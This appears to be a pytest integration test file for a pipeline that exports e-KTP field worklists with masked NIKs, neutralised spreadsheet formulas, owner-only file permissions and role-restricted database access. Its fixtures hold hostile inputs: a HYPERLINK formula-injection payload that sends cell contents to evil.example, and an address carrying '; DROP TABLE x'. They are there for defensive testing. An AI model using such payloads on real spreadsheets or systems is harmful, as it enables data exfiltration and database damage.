"""The field worklist: only wajib-KTP residents not yet recorded, NIK masked but
for its last 4 digits, formulas neutralised, readable only through its role."""

from __future__ import annotations

import csv
import datetime as dt
import re

import psycopg2.errors
import pytest
from openpyxl import load_workbook

from pipelines.nightly import build_marts
from pipelines.reports.masking import neutralise_formula
from pipelines.reports.worklist import fetch_worklist, write_worklist
from pipelines.warehouse import connect
from tests.integration.reports.residents import add_resident

NIGHT = dt.date(2040, 5, 1)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture(scope="module", autouse=True)
def residents():
    with connect() as conn, conn.cursor() as cur:
        add_resident(cur, NIGHT, 1, "W-recorded", ektp="8")
        add_resident(cur, NIGHT, 2, "W-todo", ektp="2", name="SITI AMINAH", nik="3601015505801234")
        add_resident(cur, NIGHT, 3, "W-hostile", ektp="2", name=HOSTILE_NAME, alamat="+62 JL. O'NEIL; DROP TABLE x")
        add_resident(cur, NIGHT, 4, "W-minor", ektp="1", born=dt.date(2030, 1, 1), stat_kwn="1")
        add_resident(cur, NIGHT, 5, "W-dead", ektp="2", alive=False)
        add_resident(cur, NIGHT, 6, "W-other-kecamatan", ektp="2", desa="3601022001")
        build_marts(cur, NIGHT)


def test_worklist_holds_wajib_unrecorded_with_masked_nik():
    with connect() as conn, conn.cursor() as cur:
        rows = fetch_worklist(cur, NIGHT, "3601")
    names = {row[6] for row in rows}
    assert names == {"SITI AMINAH", HOSTILE_NAME, "SUKARDI"}
    siti = next(row for row in rows if row[6] == "SITI AMINAH")
    assert siti[8] == "************1234" and siti[7] == 59 and (siti[3], siti[4]) == ("002", "001")
    assert siti[2] == "Sumberjaya" and siti[0] == "Sumur" and siti[9] == "Belum rekam"


def test_files_per_kecamatan_never_hold_a_full_nik_nor_a_live_formula(tmp_path):
    written = write_worklist(NIGHT, "3601", tmp_path / "daftar")
    assert sorted(p.name for p in written) == ["daftar_360101_sumur.csv", "daftar_360101_sumur.xlsx",
                                               "daftar_360102_cimanggu.csv", "daftar_360102_cimanggu.xlsx"]
    with (tmp_path / "daftar_360101_sumur.csv").open(encoding="utf-8-sig") as handle:
        table = list(csv.reader(handle))
    sheet = load_workbook(tmp_path / "daftar_360101_sumur.xlsx").active
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    for rows in (table, cells):
        assert len(rows) == 3 and rows[0][0] == "Kecamatan"
        text = " ".join(str(value) for row in rows for value in row)
        assert not re.search(r"\d{16}", text)
        assert {row[6] for row in rows[1:]} == {"SITI AMINAH", "'" + HOSTILE_NAME}
        assert {row[5] for row in rows[1:]} == {"KP. SUMBERJAYA", "'+62 JL. O'NEIL; DROP TABLE x"}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_files_are_readable_by_their_owner_only(tmp_path):
    (tmp_path / "daftar_360101_sumur.csv").write_text("left by an earlier run")  # world-readable, to be replaced
    for path in write_worklist(NIGHT, "3601", tmp_path / "daftar"):
        assert path.stat().st_mode & 0o777 == 0o600, path.name


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("SITI", "SITI"), ("", ""), (42, 42), (None, None),
])
def test_neutralise_formula(value, safe):
    assert neutralise_formula(value) == safe


def test_field_officer_reads_the_worklist_and_nothing_beneath_it():
    with connect() as conn, conn.cursor() as cur:
        cur.execute("SET ROLE field_officer")
        cur.execute("SELECT count(*) FROM fieldwork.ektp_worklist WHERE export_date = %s", (NIGHT,))
        assert cur.fetchone()[0] == 3
        for table in ("warehouse.person", "warehouse.resident_record", "warehouse.ektp_standing_night",
                      "mart.ektp_coverage"):
            cur.execute("SAVEPOINT probe")
            with pytest.raises(psycopg2.errors.InsufficientPrivilege):
                cur.execute(f"SELECT 1 FROM {table} LIMIT 1")
            cur.execute("ROLLBACK TO SAVEPOINT probe")


def test_other_roles_do_not_see_the_worklist():
    with connect() as conn, conn.cursor() as cur:
        cur.execute("SELECT rolname FROM pg_roles WHERE rolname IN ('analyst', 'etl_writer', 'bapenda_reader')")
        for (role,) in cur.fetchall():
            cur.execute("SELECT has_schema_privilege(%s, 'fieldwork', 'USAGE')", (role,))
            assert cur.fetchone()[0] is False, role
